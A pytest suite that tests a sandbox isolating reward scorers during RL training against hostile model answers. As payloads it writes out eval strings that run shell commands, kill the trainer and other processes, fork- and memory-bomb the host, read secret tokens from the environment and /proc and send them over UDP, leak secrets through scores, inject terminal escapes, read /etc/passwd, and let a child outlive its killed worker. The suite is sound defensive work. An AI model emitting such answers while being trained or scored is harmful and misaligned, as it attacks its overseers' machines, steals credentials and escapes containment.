"""Hostile answers through every scorer that sees model text (tasks/sandbox.py).

A policy under RL will, sooner or later, write an answer that is also a program. Each
test here sends such answers (a file written outside the sandbox, a kill of the worker's
parent and of the trainer, a fork bomb, a memory bomb, a hang) through a scorer, exactly
as train.py's verify.score call does, and checks the contract: a reward in [0, 1] within
the scorer's timeout, no file outside the sandbox, and the trainer (this test process,
and a bystander process of the same user) alive. A negative control runs the same kind
of answer through reasoning-gym's scorers WITHOUT the sandbox, in a throwaway process,
and sees it create its file: the answers are live, so the tests can fail.

The second half sends what an attacker's matrix got through before: the trainer's
secrets read from the child's environment (sent over UDP, or encoded in its score),
a reply of the child's own making (a string value, escape codes in the names the
trainer prints), SysV shared memory left behind, a child that clears its parent-death
signal and outlives its killed worker, and answer tags that cost the trainer seconds.
"""

import ast
import ctypes
import json
import os
import platform
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor

import pytest

import verify
import tasks
from tasks import math_datasets, sandbox
from tasks import reasoning_gym

TIMEOUT = 2.0          # the scorers' timeout in these tests (seconds)
SLACK = 15.0           # a loaded 2-core machine: fork, kill and reap may lag; still far below a hang


@pytest.fixture(scope="module", autouse=True)
def _workers():
    yield
    sandbox.shutdown()


@pytest.fixture(scope="module")
def open_dir():
    """A directory ANY user may write in (mode 777, reachable by all): only the sandbox keeps files out."""
    d = tempfile.mkdtemp(prefix="tokencredit-hostile-", dir="/tmp")
    os.chmod(d, 0o777)
    yield d
    shutil.rmtree(d, ignore_errors=True)


@pytest.fixture(scope="module")
def bystander():
    """Another process of the trainer's user; a hostile answer tries to kill it too."""
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
    yield proc
    proc.kill()
    proc.wait()


def hostile_answers(open_dir: str, bystander_pid: int) -> dict:
    """Python expressions an eval-based scorer would run, by what they try."""
    os_ = "__import__('os')"
    return {
        "touch": f"{os_}.system('touch {open_dir}/touched')",
        "write": f"open('{open_dir}/written', 'w').write('x')",
        "write_relative": "open('PWNED', 'w').write('x')",
        "kill_parent": f"{os_}.kill({os_}.getppid(), 9)",
        "kill_trainer": f"{os_}.kill({os.getpid()}, 9)",
        "kill_trainer_group": f"{os_}.killpg({os.getpgid(0)}, 9)",
        "kill_bystander": f"{os_}.kill({bystander_pid}, 9)",
        "fork_bomb": f"[{os_}.fork() for _ in range(1000)]",
        "memory_bomb": "bytearray(3 << 30)",
        "memory_bomb_str": "'x' * (3 << 30)",
        "cpu_hang": "9**9**9**9",
        "sleep": "__import__('time').sleep(600)",
    }


def wrap(task: str, payload: str) -> tuple[str, str, str]:
    """(response, answer, prompt) putting the payload where the task's scorer reads the answer."""
    if task == "addition":
        return f"1+1+0=02\nA:{payload}\n", "2", "1+1\n"
    if task == "countdown":
        return f"now 14+13=27\nanswer: {payload}\n", "29", "13 14 2 -> 29\n"
    if task == "math":
        return f"so \\boxed{{{payload}}}", "24", "a question"
    entry = rg_entry(task.split(":", 1)[1])
    return f"<answer>{payload}</answer>", entry, "a question"


_ENTRIES = {}


def rg_entry(name: str) -> str:
    if name not in _ENTRIES:
        _ENTRIES[name] = reasoning_gym.rows(name, 1, "train", seed=0)[0]["answer"]
    return _ENTRIES[name]


TASKS = ["addition", "countdown", "math", "reasoning_gym:countdown", "reasoning_gym:puzzle24",
         "reasoning_gym:n_queens"]


@pytest.mark.parametrize("task", TASKS)
@pytest.mark.slow
def test_hostile_answers_score_in_time_and_harm_nothing(task, open_dir, bystander):
    if task.startswith("reasoning_gym:"):
        pytest.importorskip("reasoning_gym")            # .ci/run installs it: this runs in CI
    payloads = hostile_answers(open_dir, bystander.pid)
    if not shields_signals() and task not in ("addition", "countdown", "reasoning_gym:countdown"):
        for name in ("kill_trainer", "kill_trainer_group", "kill_bystander"):
            payloads.pop(name)      # the documented hole: same user, no Landlock (sandbox.py's header)
    response, answer, prompt = wrap(task, "24")
    verify.score([response] * 2, [answer] * 2, tasks.get(task), [prompt] * 2, timeout=TIMEOUT)    # workers started, not timed
    for name, payload in payloads.items():
        response, answer, prompt = wrap(task, payload)
        t0 = time.monotonic()
        [result] = verify.score([response], [answer], tasks.get(task), [prompt], timeout=TIMEOUT)
        elapsed = time.monotonic() - t0
        assert 0.0 <= result["reward"] <= 1.0 and result["reward"] == 0.0, (name, result)
        assert elapsed < TIMEOUT + SLACK, (name, elapsed)
        assert os.listdir(open_dir) == [], (name, os.listdir(open_dir))
        assert not os.path.exists("PWNED"), name
        assert bystander.poll() is None, name            # the bystander lives; and so do we, to get here
    # The pool still scores right after all that (a killed worker was replaced).
    response, answer, prompt = wrap(task, "24")
    scores = verify.score([response], [answer], tasks.get(task), [prompt], timeout=TIMEOUT)
    assert 0.0 <= scores[0]["reward"] <= 1.0


@pytest.mark.slow
def test_sandboxed_scorers_still_give_full_credit_to_right_answers():
    """Negative control for the restrictions: they do not cost a right answer its reward."""
    pytest.importorskip("reasoning_gym")
    for name in ("puzzle24", "n_queens"):
        entry = rg_entry(name)
        reference = json.loads(entry)["answer"]
        [s] = verify.score([f"<answer>{reference}</answer>"], [entry], tasks.get(f"reasoning_gym:{name}"), timeout=10.0)
        assert s["reward"] == 1.0, (name, s)
    assert verify.score(["\\boxed{\\frac{1}{2}}"], ["0.5"], tasks.get("math"), timeout=10.0)[0]["reward"] == 1.0


@pytest.mark.parametrize("name", ["puzzle24", "n_queens"])
@pytest.mark.slow
def test_negative_control_the_payloads_run_in_reasoning_gyms_scorers_without_the_sandbox(name, tmp_path):
    """The same scorer, called directly in a throwaway process, runs the answer: the file appears."""
    pytest.importorskip("reasoning_gym")
    entry = rg_entry(name)
    code = ("import json, sys, reasoning_gym; entry = json.loads(sys.argv[1]); "
            f"reasoning_gym.get_score_answer_fn({name!r})(answer=sys.argv[2], entry=entry)")
    payload = f"__import__('os').system('touch {tmp_path}/ran')"
    subprocess.run([sys.executable, "-c", code, entry, payload], cwd=tmp_path, timeout=300, check=True)
    assert os.path.exists(tmp_path / "ran")


@pytest.mark.slow
def test_ten_hanging_answers_cost_about_ten_timeouts():
    """A hang costs its timeout: the worker kills the child and stays; no restart, no start-up
    allowance on the next request. Before, each hang restarted the worker and the next
    reasoning-gym request waited the timeout plus 120 s of start-up allowance."""
    pytest.importorskip("reasoning_gym")
    entry = rg_entry("puzzle24")
    t0 = time.monotonic()
    reasoning_gym.score("<answer>24</answer>", entry, "puzzle24", timeout=1.0)   # one start-up, if any
    startup = time.monotonic() - t0
    ex = ThreadPoolExecutor(max_workers=1)                # fail instead of freezing the suite
    try:
        t0 = time.monotonic()
        future = ex.submit(lambda: [reasoning_gym.score("<answer>9**9**9**9</answer>", entry, "puzzle24",
                                                               timeout=1.0) for _ in range(10)])
        results = future.result(timeout=10 * 1.0 + startup + 120)
        elapsed = time.monotonic() - t0
    finally:
        ex.shutdown(wait=False, cancel_futures=True)
    assert all(r["reward"] == 0.0 and r["rg_score"] == 0.0 for r in results)
    assert elapsed <= 10 * 1.0 + startup + 30, (elapsed, startup)     # generous: the machine is shared


def test_a_locked_down_child_cannot_fork_allocate_write_execute_or_signal(open_dir):
    """Each restriction of _lock_down, checked directly in a child forked from this process
    and locked down as a worker's child is (uid switch first when root). Kernel objects that
    would outlive it (SysV shared memory, a POSIX message queue) are refused, and so is
    clearing its parent-death signal."""
    abi = sandbox.landlock_abi()
    prctl_nr = sandbox._SYSCALLS.get(platform.machine(), (0, {"prctl": -1}))[1]["prctl"]   # -1: not used
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(read_end)
            sandbox._drop_root()
            sandbox._lock_down(write_end, cpu_seconds=30, memory_bytes=sandbox._address_space() + (256 << 20),
                               landlock=abi)
            results = {}
            libc = ctypes.CDLL(None, use_errno=True)

            def call(result):                  # a libc call's -1 as an OSError, as os.* would raise
                if result == -1:
                    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
                return result
            for name, attempt in {"fork": lambda: os.fork() == 0 and os._exit(0),
                                  "sysv_shm": lambda: call(libc.shmget(0, 1 << 20, 0o1600)),
                                  "sysv_msg": lambda: call(libc.msgget(0, 0o1600)),
                                  "sysv_sem": lambda: call(libc.semget(0, 1, 0o1600)),
                                  "posix_mqueue": lambda: call(libc.mq_open(MQUEUE.encode(), os.O_CREAT | os.O_RDONLY,
                                                                            0o600, None)),
                                  "clear_pdeathsig": lambda: call(libc.prctl(1, 0, 0, 0, 0)),
                                  # glibc's prctl() passes an int; the raw call can set the high half
                                  "pdeathsig_high_bits": lambda: call(libc.syscall(
                                      ctypes.c_long(prctl_nr), ctypes.c_ulong(1 | 1 << 32), ctypes.c_ulong(0),
                                      ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_ulong(0))),
                                  "other_prctl": lambda: call(libc.prctl(15, b"tc-child", 0, 0, 0)),
                                  "memory": lambda: bytearray(512 << 20),
                                  "write": lambda: open(os.path.join(open_dir, "x"), "w"),
                                  "execute": lambda: os.execv("/bin/true", ["true"]),
                                  "signal_parent": lambda: os.kill(os.getppid(), 0)}.items():
                try:
                    results[name + "_returned"] = attempt()
                    results[name] = "allowed"
                except Exception as e:
                    results[name] = type(e).__name__
            signum = ctypes.c_int(0)
            libc.prctl(2, ctypes.byref(signum), 0, 0, 0)   # PR_GET_PDEATHSIG
            results["pdeathsig"] = signum.value
            os.write(write_end, json.dumps(results).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end) as f:
        results = json.loads(f.read())
    os.waitpid(pid, 0)
    leftover_queue = ctypes.CDLL(None, use_errno=True).mq_unlink(MQUEUE.encode()) == 0   # removes it if there
    for name, kind in (("sysv_shm", "-m"), ("sysv_msg", "-q"), ("sysv_sem", "-s")):
        if results[name] == "allowed":                     # the breach: remove what it left behind
            subprocess.run(["ipcrm", kind, str(results[name + "_returned"])], check=False)
    assert results["fork"] == "BlockingIOError"            # RLIMIT_NPROC 0
    assert results["memory"] == "MemoryError"              # RLIMIT_AS
    if abi >= 1:
        assert results["write"] == "PermissionError" and results["execute"] == "PermissionError"
    if abi >= 6:
        assert results["signal_parent"] == "PermissionError"
    assert os.listdir(open_dir) == []
    assert results["posix_mqueue"] == "OSError" and not leftover_queue     # RLIMIT_MSGQUEUE 0 (EMFILE)
    if sandbox.seccomp_supported():                        # the filter: EPERM
        assert {results[k] for k in ("sysv_shm", "sysv_msg", "sysv_sem")} == {"PermissionError"}
        assert results["clear_pdeathsig"] == "PermissionError"
        assert results["pdeathsig_high_bits"] == "PermissionError"
        assert results["other_prctl"] == "allowed"         # PR_SET_NAME: only the parent-death signal is held
        assert results["pdeathsig"] == signal.SIGKILL     # still set, after every attempt above


MQUEUE = f"/tokencredit-test-{os.getpid()}"               # a POSIX message queue name no one else uses


def run_bpf(prog: list, arch: int, nr: int, arg0: int) -> int:
    """What a seccomp program answers for one system call (the few BPF instructions it uses)."""
    data = {0: nr, 4: arch, 16: arg0 & 0xFFFFFFFF, 20: arg0 >> 32}     # struct seccomp_data, 32-bit words
    a, pc = 0, 0
    while True:
        code, jt, jf, k = prog[pc]
        if code == 0x20:                                    # A = data[k]
            a, pc = data[k], pc + 1
        elif code in (0x15, 0x35):                          # jeq / jge k
            pc += 1 + (jt if (a == k if code == 0x15 else a >= k) else jf)
        elif code == 0x06:
            return k
        else:
            raise ValueError(f"instruction {code:#x}")


@pytest.mark.parametrize("machine", ["x86_64", "aarch64"])
def test_the_childs_seccomp_program_refuses_sysv_ipc_and_clearing_the_parent_death_signal(machine):
    """The filter of each architecture, run by a small BPF interpreter on the calls it must tell apart."""
    prog = sandbox.seccomp_program(machine)
    arch, numbers = sandbox._SYSCALLS[machine]
    allow, deny = 0x7FFF0000, 0x00050000 | 1                # SECCOMP_RET_ALLOW, SECCOMP_RET_ERRNO | EPERM
    for name in sandbox._SYSV_IPC:
        assert run_bpf(prog, arch, numbers[name], 0) == deny, name
    assert run_bpf(prog, arch, numbers["prctl"], 1) == deny                  # PR_SET_PDEATHSIG
    assert run_bpf(prog, arch, numbers["prctl"], 1 | 1 << 32) == deny        # the kernel reads an int
    assert run_bpf(prog, arch, numbers["prctl"], 15) == allow                # PR_SET_NAME
    assert run_bpf(prog, arch, numbers["prctl"], 38) == allow                # PR_SET_NO_NEW_PRIVS
    for nr in (0, 1, 2, 3, 60, 200, 300, 435):         # other calls (x86_64: read, write, open, ..., clone3)
        if nr not in numbers.values():
            assert run_bpf(prog, arch, nr, 0) == allow, nr
    assert run_bpf(prog, arch, 0x40000000 | 29, 0) == deny                   # x32 numbers
    assert run_bpf(prog, 0x40000003, 117, 0) == deny                         # i386's ipc(), through int 0x80
    assert len(prog) <= 255 and all(0 <= jt < len(prog) and 0 <= jf < len(prog) for _, jt, jf, _ in prog)


@pytest.mark.slow
def test_the_sandbox_reports_what_holds():
    """As root the worker is nobody; a child cannot open a TCP connection where Landlock covers TCP."""
    math_datasets.math_equal("\\frac{1}{2}", "0.5")
    info = sandbox.WORKER_INFO["math"]
    if os.geteuid() == 0:
        assert info["uid"] == sandbox.NOBODY
    else:
        assert info["uid"] == os.getuid()
    assert info["landlock"] == sandbox.landlock_abi()
    assert info["seccomp"] is sandbox.seccomp_supported()


def test_a_sandbox_without_its_filter_says_so(monkeypatch, capsys):
    monkeypatch.setattr(sandbox, "_warned", set())
    sandbox._warn_if_weak({"uid": os.getuid(), "landlock": 7, "seccomp": True})
    assert capsys.readouterr().err == ""
    sandbox._warn_if_weak({"uid": os.getuid(), "landlock": 7, "seccomp": False})
    assert "no seccomp filter" in capsys.readouterr().err


@pytest.mark.slow
def test_a_child_cannot_connect_over_tcp_with_landlock():
    pytest.importorskip("reasoning_gym")
    if sandbox.landlock_abi() < 4:
        pytest.skip("Landlock without TCP rules (ABI < 4): the sandbox does not block TCP here (documented)")
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    port = server.getsockname()[1]
    payload = f"__import__('socket').create_connection(('127.0.0.1', {port})).send(b'x')"
    reasoning_gym.score(f"<answer>{payload}</answer>", rg_entry("n_queens"), "n_queens", timeout=TIMEOUT)
    with pytest.raises(socket.timeout):
        server.accept()
    server.close()


def shields_signals() -> bool:
    """Can a child be kept from signalling this process? As root (it becomes nobody), or with
    Landlock's signal scope (ABI >= 6)."""
    return os.geteuid() == 0 or sandbox.landlock_abi() >= 6


# ---------------------------------------------------------------------------------------
# Breaches found by an attacker's matrix: each payload below got through before the fix
# (its test failed), and is stopped now. The payloads are whole programs: n_queens' scorer
# evals an answer, and an answer `exec(CODE, {})` runs CODE with statements and all.
# ---------------------------------------------------------------------------------------

SECRET = "hf_tokencreditPlantedSecret7f3a9c"    # planted in the trainer's environment; must never come back
SECRET_VARS = ("HF_TOKEN", "WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY")

# The child's reply pipe is the only FIFO among its descriptors (0-2 are /dev/null): a
# payload can write a reply of its choosing there and exit before the scorer answers.
REPLY_HELPER = """
import json, os, stat
def reply(obj):
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, json.dumps(obj).encode())
                break
        except OSError:
            pass
    os._exit(0)
"""


def program(code: str) -> str:
    """An answer that n_queens' scorer runs as a program (exec with fresh globals)."""
    return f"exec({code!r}, {{}})"


@pytest.fixture(scope="module")
def planted_secret():
    """The trainer's environment holds secrets (as a logged-in user's would); workers start fresh with it."""
    pytest.importorskip("reasoning_gym")
    with pytest.MonkeyPatch.context() as mp:
        for name in SECRET_VARS:
            mp.setenv(name, SECRET)
        sandbox.shutdown()                   # the next workers start from this environment
        yield SECRET
        sandbox.shutdown()                   # and no later test's worker has it


def udp_listener():
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.settimeout(30.0)
    return server


def test_a_worker_starts_from_a_minimal_environment(monkeypatch):
    """Only the variables worker_env names pass; secrets and everything else stay behind."""
    for name in SECRET_VARS + ("AWS_ACCESS_KEY_ID", "GITHUB_TOKEN", "HOME", "LANG", "PATH"):
        monkeypatch.setenv(name, SECRET)
    monkeypatch.delenv("PYTHONHOME", raising=False)
    monkeypatch.delenv("LD_LIBRARY_PATH", raising=False)
    monkeypatch.delenv("PYTHONUSERBASE", raising=False)
    monkeypatch.setenv("PYTHONPATH", "/opt/scorers")
    assert sandbox.worker_env() == {"OMP_NUM_THREADS": "1", "OPENBLAS_NUM_THREADS": "1", "MKL_NUM_THREADS": "1",
                                    "PYTHONDONTWRITEBYTECODE": "1", "PYTHONPATH": "/opt/scorers"}
    monkeypatch.delenv("PYTHONPATH")
    assert "PYTHONPATH" not in sandbox.worker_env()


@pytest.mark.slow
def test_no_secret_of_the_trainers_reaches_a_child_over_udp(planted_secret):
    """A child sends its environment, its worker's and the trainer's (/proc/PID/environ) over UDP."""
    server = udp_listener()
    port = server.getsockname()[1]
    code = f"""
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def send(label, data):
    s.sendto(label.encode() + b"=" + data[:60000], ("127.0.0.1", {port}))
send("env", repr(dict(os.environ)).encode())
for who, pid in (("worker", os.getppid()), ("trainer", {os.getpid()})):
    try:
        send(who, open(f"/proc/{{pid}}/environ", "rb").read())
    except OSError as e:
        send(who, repr(e).encode())
"""
    reasoning_gym.score(f"<answer>{program(code)}</answer>", rg_entry("n_queens"), "n_queens", timeout=TIMEOUT)
    received = {}
    while len(received) < 3:
        label, _, data = server.recvfrom(65536)[0].partition(b"=")
        received[label.decode()] = data
    server.close()
    child_env = ast.literal_eval(received["env"].decode())
    # worker_env exactly; LC_CTYPE is Python's own (its C-locale coercion, PEP 538)
    assert set(child_env) - {"LC_CTYPE"} == set(sandbox.worker_env()), sorted(child_env)
    assert planted_secret.encode() not in received["env"]
    assert planted_secret.encode() not in received["worker"]
    # The trainer's own environment, through /proc: closed to nobody (as root), and closed by
    # Landlock to a process outside the child's domain, whoever runs (ptrace-level access).
    if os.geteuid() == 0 or sandbox.landlock_abi() >= 1:
        assert planted_secret.encode() not in received["trainer"]
        assert b"PermissionError" in received["trainer"]


@pytest.mark.slow
def test_a_childs_score_cannot_carry_a_secret(planted_secret):
    """A child sets its own score (documented), so a secret in its environment could leave as
    the logged rg_score, 6 bytes per answer: the score must not depend on the trainer's secrets."""
    code = REPLY_HELPER + f"""
secret = os.environ.get({SECRET_VARS[0]!r}, "")
reply({{"value": int.from_bytes(secret[:6].encode(), "big") / 2 ** 48, "missing": []}})
"""
    result = reasoning_gym.score(f"<answer>{program(code)}</answer>", rg_entry("n_queens"), "n_queens",
                                 timeout=TIMEOUT)
    leaked = int.from_bytes(planted_secret[:6].encode(), "big") / 2 ** 48
    assert result["rg_score"] != leaked
    assert result["rg_score"] == 0.0


@pytest.mark.slow
@pytest.mark.parametrize("value, expected", [
    ("tc_planted_string_7f3a", None), (float("nan"), None), (float("inf"), None), ([0.5], None),
    ({"a": 1}, None), (10 ** 400, None), (0.25, 0.25), (1, 1.0), (True, True), (None, None)],
    ids=["str", "nan", "inf", "list", "dict", "10**400", "0.25", "1", "true", "null"])
def test_the_trainer_takes_only_a_finite_number_or_a_bool_from_a_child(value, expected):
    """Whatever JSON a child writes as its value, run_scorer returns a finite number, a bool or None."""
    pytest.importorskip("reasoning_gym")
    code = REPLY_HELPER + f"reply(json.loads({json.dumps({'value': value, 'missing': []})!r}))"
    got = sandbox.run_scorer("reasoning_gym:n_queens", [program(code), rg_entry("n_queens")], TIMEOUT)
    assert got == expected and type(got) is type(expected), (value, got)


@pytest.mark.slow
def test_a_childs_missing_field_never_reaches_the_terminal_as_is(planted_secret, capfd, monkeypatch):
    """A reply's `missing` names are printed in a warning: only names of installed modules may be."""
    monkeypatch.setattr(sandbox, "_warned", set())
    code = REPLY_HELPER + f"""
names = ["\\x1b[2J\\x1b[31mHACKED\\x07", os.environ.get({SECRET_VARS[1]!r}, "no secret"), "tc_planted_name_7f3a",
         open("/etc/passwd").read()[:1500], "sympy.printing.tc_real_top_level"]
reply({{"value": 0.0, "missing": names}})
"""
    capfd.readouterr()
    reasoning_gym.score(f"<answer>{program(code)}</answer>", rg_entry("n_queens"), "n_queens", timeout=TIMEOUT)
    err = capfd.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "HACKED" not in err
    assert planted_secret not in err and "tc_planted_name_7f3a" not in err
    assert "root:x:0:0" not in err
    assert "needed sympy.printing.tc_real_top_level, which" in err     # the warning itself still comes


def test_cleaning_a_reply_keeps_installed_module_names_and_finite_values():
    clean = sandbox._clean_reply
    assert clean({"value": 0.5, "missing": ["sympy.core", "json", "\x1b[31m", "tc_not_a_module", "a b",
                                            "sympy." + "x" * 300, 7, None]}) == {"value": 0.5,
                                                                                  "missing": ["sympy.core", "json"]}
    assert clean({"value": True, "missing": []}) == {"value": True, "missing": []}
    assert clean({"value": float("nan"), "missing": "sympy"}) == {"value": None, "missing": []}
    assert clean({"value": "0.5"}) == {"value": None, "missing": []}
    assert clean(["value", 1]) == {"value": None, "missing": []}
    assert clean(None) == {"value": None, "missing": []}
    assert len(clean({"value": 0, "missing": ["json"] * 100})["missing"]) == 20


def shm_segments() -> dict:
    """SysV shared memory segments of the whole machine: shmid -> size in bytes (/proc/sysvipc/shm)."""
    with open("/proc/sysvipc/shm") as f:
        rows = [line.split() for line in f.readlines()[1:]]
    return {int(row[1]): int(row[3]) for row in rows}


@pytest.mark.slow
def test_a_child_cannot_leave_sysv_shared_memory_behind():
    """shmget + shmat + memset through ctypes: memory outside RLIMIT_AS and Landlock that would
    outlive the child, its worker and the trainer. The reply carries shmget's result (-errno on failure)."""
    pytest.importorskip("reasoning_gym")
    size = 256 << 20
    code = REPLY_HELPER + f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shmid = libc.shmget(0, {size}, 0o1600)
if shmid < 0:
    reply({{"value": -ctypes.get_errno(), "missing": []}})
ctypes.memset(libc.shmat(shmid, None, 0), 1, {size})
reply({{"value": shmid, "missing": []}})
"""
    before = shm_segments()
    try:
        got = sandbox.run_scorer("reasoning_gym:n_queens", [program(code), rg_entry("n_queens")], 10.0)
        left = {shmid: n for shmid, n in shm_segments().items() if shmid not in before and n == size}
        assert left == {}, f"{len(left)} segment(s) of {size >> 20} MB left behind"
        assert got == -1.0, got                              # EPERM: shmget refused
    finally:
        for shmid, n in shm_segments().items():              # remove what the breach left (ours only)
            if shmid not in before and n == size:
                subprocess.run(["ipcrm", "-m", str(shmid)], check=False)


@pytest.mark.slow
def test_a_child_does_not_outlive_its_killed_worker():
    """A child clears its parent-death signal and sleeps; its worker is then killed (SIGKILL to the
    worker alone, as the OOM killer would): the child must die with it, not live on under PID 1."""
    pytest.importorskip("reasoning_gym")
    server = udp_listener()
    port = server.getsockname()[1]
    code = f"""
import ctypes, os, socket, time
rc = ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)       # PR_SET_PDEATHSIG, 0: no signal when the worker dies
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(f"{{os.getpid()}} {{rc}}".encode(), ("127.0.0.1", {port}))
time.sleep(3600)
"""
    entry = rg_entry("n_queens")
    worker = sandbox._start_worker("reasoning_gym:n_queens", [])
    child = None
    try:
        worker.conn.send_bytes(json.dumps({"timeout": 600.0, "args": [program(code), entry]}).encode())
        child, rc = map(int, server.recvfrom(64)[0].split())
        assert process_parent(child) == worker.proc.pid          # it is the worker's child, asleep
        os.kill(worker.proc.pid, 9)
        worker.proc.wait()
        deadline = time.monotonic() + 10.0
        while process_alive(child) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not process_alive(child), f"the child {child} outlived its worker (prctl returned {rc})"
        assert rc == -1                                           # the filter refused the prctl
    finally:
        server.close()
        if child is not None and process_alive(child):
            os.kill(child, 9)                                     # the breach's survivor, started by this test
        sandbox._stop_worker(worker)


def process_alive(pid: int) -> bool:
    """Running (a zombie waiting for PID 1 to reap it counts as dead)."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rpartition(")")[2].split()[0] != "Z"
    except FileNotFoundError:
        return False


def process_parent(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rpartition(")")[2].split()[1])


# --- the answer tags: found in linear time, the same answer as before --------------------

OLD_ANSWER_RE = re.compile(r"<answer>(.*?)</answer>", re.DOTALL)   # the extraction before: quadratic


def old_last_answer(text: str):
    tagged = OLD_ANSWER_RE.findall(text[-100_000:])
    return tagged[-1] if tagged else None


def test_answer_tags_are_found_in_linear_time():
    """Many opening tags and no closing one made the lazy regex rescan to the end from every
    opening tag: 12,500 tags cost 5-14 s in the trainer's own process, outside any sandbox."""
    entry = json.dumps({"metadata": {"numbers": [1, 2, 3], "target": 6}})
    for response in ("<answer>" * 12500, "<answer>" * 12500 + "</answer>", "</answer><answer>" * 6000,
                     "<answer>" * 200_000):
        t0 = time.perf_counter()
        result = reasoning_gym.score(response, entry, "countdown")
        elapsed = time.perf_counter() - t0
        assert elapsed < 1.0, (response[:40], len(response), elapsed)
        assert result["reward"] == 0.0


def test_answer_extraction_gives_the_old_regexs_answer():
    ordinary = ["<answer>42</answer>", "think\n<answer>\n 1 2\n3 </answer>\n", "no tags at all", "",
                "<answer>a</answer> then <answer>b</answer>", "<answer></answer>", "<answer>x",
                "x</answer>", "</answer><answer>y</answer>", "<answer><answer>n</answer></answer>",
                "<answer>a<answer>b</answer>c</answer>", "<answer>é→∑</answer>", "<ANSWER>u</ANSWER>",
                "<answer>multi\nline\r\n</answer>", "<answer>a</answer><answer>", "<answer></answer></answer>",
                "<answer>" * 3 + "</answer>" * 3, "<answer >s</answer>", "<<answer>>t<</answer>>",
                "x" * 99_990 + "<answer>cut</answer>", "<answer>" + "y" * 100_000 + "</answer>",
                "<answer>first</answer>" + "z" * 99_995 + "<answer>last</answer>"]
    rng = __import__("random").Random(0)
    pieces = ["<answer>", "</answer>", "<answer", "answer>", "</", "a", " ", "\n", "<", ">"]
    fuzz = ["".join(rng.choice(pieces) for _ in range(rng.randrange(12))) for _ in range(3000)]
    for text in ordinary + fuzz:
        assert reasoning_gym.last_answer(text) == old_last_answer(text), repr(text[:80])
